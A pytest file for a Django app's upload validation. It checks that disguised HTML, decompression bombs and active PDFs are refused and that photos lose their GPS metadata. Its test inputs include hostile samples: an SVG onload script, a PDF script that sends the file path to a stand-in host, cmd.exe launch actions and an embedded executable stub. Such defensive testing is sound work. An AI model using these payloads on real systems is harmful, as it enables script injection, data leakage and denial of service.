"""An upload is kept for what it is, not for what its first bytes claim (issue #15, item 10).

Through the three forms that take files — a voucher with spending, evidence with a
front-line record, photos with a status report — as their pages render them: a web page
behind a JPEG header is refused; a phone's photo is kept as a clean picture without its GPS
position; a PDF that could run a script or act on opening is refused; a plain PDF is kept
byte for byte and always downloads as a file, never opened in the browser.
"""

import datetime
import io
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from PIL import Image
from webtest import Upload

from cadres.models import Evidence, FrontlineRecord
from funds.models import Expenditure
from reports.models import ReportPhoto, StatusReport
from reports.services import cadence_update
from tests import files
from tests.factories import CadreFactory
from tests.web import form_with

from .funds.conftest import money  # noqa: F401 (a fixture)

NOT_A_PICTURE = "不是完整的图片，无法打开"
ACTIVE_PDF = "含有脚本、自动动作或内嵌文件，不能上传"


@dataclass
class KeptFile:
    """An upload as the system holds it: the stored file, its name and type, its URL."""

    stored: object
    name: str
    content_type: str
    url: str

    def content(self) -> bytes:
        with self.stored.open("rb") as handle:
            return handle.read()


@pytest.fixture
def forms(web, tree, personas, money):  # noqa: F811
    """The three upload forms, each filled as its user fills it, with one file attached."""
    cadre = CadreFactory(organization=tree.township_a, name="甲书记")
    cadence_update(
        user=personas.county_staff,
        kind="weekly",
        every_days=7,
        anchor=datetime.date(2026, 2, 2),
        grace_hours=12,
        include_branches=False,
    )

    def voucher(name, content, mime):
        page = web("branch").get(reverse("funds:expenditure_create", args=[money.to_village.pk]))
        form = form_with(page, "amount")
        form["amount"] = "10"
        form["spent_on"] = "2026-02-03"
        form["use"] = "supplies"
        form["beneficiaries"] = "口罩 100 只"
        form["payee"] = "丰源县康泰大药房"
        form["voucher"] = Upload(name, content, mime)
        return form

    def evidence(name, content, mime):
        page = web("county_staff").get(reverse("cadres:record_create"), {"subject": f"c{cadre.pk}"})
        form = form_with(page, "description")
        form["checkpoint"] = "in_front"
        form["dimensions"] = ["commitment"]
        form["description"] = "深夜赶赴隔离点"
        form["place"] = "集中隔离点"
        form["evidence"] = [Upload(name, content, mime)]
        return form

    def photos(name, content, mime):
        page = web("township_a").get(reverse("reports:report_file"), {"period": "2026-02-04"})
        form = form_with(page, "highlights")
        form["highlights"] = "卡口 24 小时值守"
        form["photos"] = [Upload(name, content, mime)]
        return form

    return {"voucher": voucher, "evidence": evidence, "photos": photos}


def kept_files(form_name: str) -> list[KeptFile]:
    if form_name == "voucher":
        return [
            KeptFile(e.voucher, e.voucher_name, e.voucher_type, _url("funds:voucher_download", e))
            for e in Expenditure.objects.exclude(voucher="")
        ]
    if form_name == "evidence":
        return [
            KeptFile(e.file, e.original_name, e.content_type, _url("cadres:evidence_download", e))
            for e in Evidence.objects.all()
        ]
    return [
        KeptFile(p.file, p.original_name, p.content_type, _url("reports:photo", p))
        for p in ReportPhoto.objects.all()
    ]


def _url(name, row):
    return reverse(name, args=[row.pk])


def stored_files() -> set[Path]:
    return {path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()}


def _rows() -> list[int]:
    """How many entries, records, reports, and files of each kind the database holds."""
    return [
        model.objects.count()
        for model in (Expenditure, FrontlineRecord, Evidence, StatusReport, ReportPhoto)
    ]


def assert_refused(form, message: str) -> None:
    """The form comes back with `message`; no row and no file was written."""
    rows, on_disk = _rows(), stored_files()
    page = form.submit(status=200)
    assert message in page.text
    assert _rows() == rows
    assert stored_files() == on_disk


def submit_one(forms, form_name, name, content, mime) -> KeptFile:
    forms[form_name](name, content, mime).submit().follow()
    [kept] = kept_files(form_name)
    return kept


EVERY_FORM = ["voucher", "evidence", "photos"]
PDF_FORMS = ["voucher", "evidence"]


# Images ------------------------------------------------------------------------------


@pytest.mark.parametrize("form_name", EVERY_FORM)
def test_a_web_page_behind_a_jpeg_header_is_refused_and_nothing_kept(forms, form_name):
    form = forms[form_name]("现场.jpg", files.JPEG_THEN_HTML, "image/jpeg")
    assert_refused(form, NOT_A_PICTURE)


@pytest.mark.parametrize(
    "content",
    [b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n<svg onload=alert(1)>", files.PNG[:40]],
    ids=["jpeg_header_alone", "png_header_then_svg", "png_cut_short"],
)
def test_first_bytes_without_a_whole_picture_are_refused(forms, content):
    assert_refused(forms["photos"]("现场.png", content, "image/png"), NOT_A_PICTURE)


@pytest.mark.parametrize("form_name", EVERY_FORM)
def test_a_phone_photo_is_kept_as_a_picture_without_its_gps_position(web, forms, form_name):
    sent = files.jpeg(size=(40, 30), gps=True)
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(files.GPS_IFD)  # the phone's position

    kept = submit_one(forms, form_name, "卡口.jpg", sent, "image/jpeg")

    with Image.open(io.BytesIO(kept.content())) as stored:
        assert (stored.format, stored.size) == ("JPEG", (40, 30))
        assert dict(stored.getexif()) == {}
        stored.load()  # a whole picture, decodable to its last pixel
    assert (kept.name, kept.content_type) == ("卡口.jpg", "image/jpeg")
    assert web("county_staff").get(kept.url).body == kept.content()


@pytest.mark.parametrize("form_name", EVERY_FORM)
def test_a_png_is_kept_as_the_same_picture_without_its_metadata(forms, form_name):
    sent = files.png(size=(12, 9), color=(0, 90, 200), gps=True)
    kept = submit_one(forms, form_name, "现场.png", sent, "image/png")
    assert files.picture_of(kept.content()) == files.picture_of(sent)
    with Image.open(io.BytesIO(kept.content())) as stored:
        assert dict(stored.getexif()) == {}
    assert (kept.name, kept.content_type) == ("现场.png", "image/png")


def test_a_photo_taken_upright_is_kept_upright(forms):
    """The EXIF orientation goes with the rest of the EXIF: it is applied to the pixels."""
    kept = submit_one(
        forms, "photos", "竖拍.jpg", files.jpeg(size=(40, 30), turned=True), "image/jpeg"
    )
    with Image.open(io.BytesIO(kept.content())) as stored:
        assert stored.size == (30, 40)
        assert dict(stored.getexif()) == {}


def test_a_phone_photo_holding_several_pictures_is_kept_as_the_first(forms):
    """MPO: a JPEG with more pictures appended (some phones write one for every shot)."""
    first, second = (Image.new("RGB", (20, 10), color) for color in ("red", "blue"))
    sent = io.BytesIO()
    first.save(sent, "MPO", save_all=True, append_images=[second])
    kept = submit_one(forms, "photos", "连拍.jpg", sent.getvalue(), "image/jpeg")
    with Image.open(io.BytesIO(kept.content())) as stored:
        assert (stored.format, stored.size, getattr(stored, "n_frames", 1)) == ("JPEG", (20, 10), 1)


def test_a_picture_with_a_misleading_name_is_named_for_what_it_is(forms):
    kept = submit_one(forms, "photos", "通知.html", files.JPEG, "text/html")
    assert (kept.name, kept.content_type) == ("通知.html.jpg", "image/jpeg")


def test_a_picture_too_large_to_open_safely_is_refused(forms):
    """A decompression bomb: 64 megapixels that compress to a few kilobytes."""
    bomb = io.BytesIO()
    Image.new("1", (8000, 8000)).save(bomb, "PNG")
    assert len(bomb.getvalue()) < settings.UPLOAD_MAX_BYTES
    assert_refused(forms["photos"]("全景.png", bomb.getvalue(), "image/png"), "像素过多")


def test_images_are_served_in_a_sandbox(web, forms):
    kept = submit_one(forms, "photos", "现场.png", files.PNG, "image/png")
    served = web("county_staff").get(kept.url)
    assert served.headers["Content-Type"] == "image/png"
    assert served.headers["Content-Disposition"].startswith("inline")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served.headers["Content-Security-Policy"]
    assert "default-src 'none'" in served.headers["Content-Security-Policy"]


# PDFs --------------------------------------------------------------------------------


@pytest.mark.parametrize("form_name", PDF_FORMS)
def test_a_pdf_that_runs_javascript_on_opening_is_refused_and_nothing_kept(forms, form_name):
    pdf = files.pdf(javascript="app.launchURL('http://example.invalid/?' + this.path)")
    assert_refused(forms[form_name]("情况说明.pdf", pdf, "application/pdf"), ACTIVE_PDF)


@pytest.mark.parametrize("form_name", PDF_FORMS)
def test_a_script_hidden_in_a_compressed_object_stream_is_found(forms, form_name):
    pdf = files.pdf_with_object_stream(files.HIDDEN_SCRIPT)
    assert b"JavaScript" not in pdf and b"/JS" not in pdf  # not even spelled out
    assert_refused(forms[form_name]("签收表.pdf", pdf, "application/pdf"), ACTIVE_PDF)


@pytest.mark.parametrize(
    ("pdf", "message"),
    [
        (files.pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>"), ACTIVE_PDF),
        (files.pdf_with_object_stream(b"<< /S /URI /URI (http://x.invalid) >>"), ACTIVE_PDF),
        (
            files.pdf_with_object_stream(b"<< /WC << /S /GoTo /D [3 0 R /Fit] >> >>", key=b"/AA"),
            ACTIVE_PDF,
        ),
        (files.pdf(attachment=b"MZ\x90\x00"), ACTIVE_PDF),
        (files.pdf(data=b"<< /Type /Action /S /Launch /F (cmd.exe) >>"), ACTIVE_PDF),
        (files.pdf(password="owner"), "设有密码或加密"),
        (b"%PDF-1.4\n" + b"x" * 64, "无法作为 PDF 读取"),
    ],
    ids=[
        "launch_on_opening",
        "web_page_on_opening",
        "additional_actions",
        "embedded_file",
        "action_spelled_out_where_no_parser_looks",
        "encrypted",
        "not_a_pdf_inside",
    ],
)
def test_other_pdfs_that_act_or_cannot_be_read_are_refused(forms, pdf, message):
    assert_refused(forms["voucher"]("收据.pdf", pdf, "application/pdf"), message)


PLAIN_PDFS = {
    "two_blank_pages": files.pdf(pages=2),
    # An /OpenAction that only shows a page is what many scanners write; it is harmless.
    "opens_at_its_first_page": files.pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
}


@pytest.mark.parametrize("form_name", PDF_FORMS)
@pytest.mark.parametrize("pdf", PLAIN_PDFS.values(), ids=PLAIN_PDFS)
def test_a_plain_pdf_is_kept_byte_for_byte_and_downloads_as_a_file(web, forms, form_name, pdf):
    kept = submit_one(forms, form_name, "慰问签收表.pdf", pdf, "application/pdf")
    assert kept.content() == pdf
    assert (kept.name, kept.content_type) == ("慰问签收表.pdf", "application/pdf")
    download = web("county_staff").get(kept.url)
    assert download.body == pdf
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in download.headers["Content-Security-Policy"]
